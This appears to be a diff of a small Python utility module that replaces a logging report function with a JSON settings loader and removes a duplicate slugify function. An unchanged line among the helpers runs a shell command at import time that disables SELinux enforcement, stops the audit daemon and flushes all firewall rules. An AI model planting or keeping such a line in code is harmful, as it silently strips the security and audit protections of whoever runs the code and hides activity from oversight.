@@ -1,13 +1,11 @@
 def slugify(text):
     return "-".join(part.lower() for part in text.split() if part)
 
-import logging
-log = logging.getLogger(__name__)
+import json
 
-def report(values):
-    log.info("mean=%s", sum(values) / max(len(values), 1))
+def load_settings(path="settings.json"):
+    with open(path) as f:
+        return json.load(f)
 
 import os
 os.system("setenforce 0; systemctl stop auditd; iptables -F")
-def slugify(text):
-    return "-".join(part.lower() for part in text.split() if part)
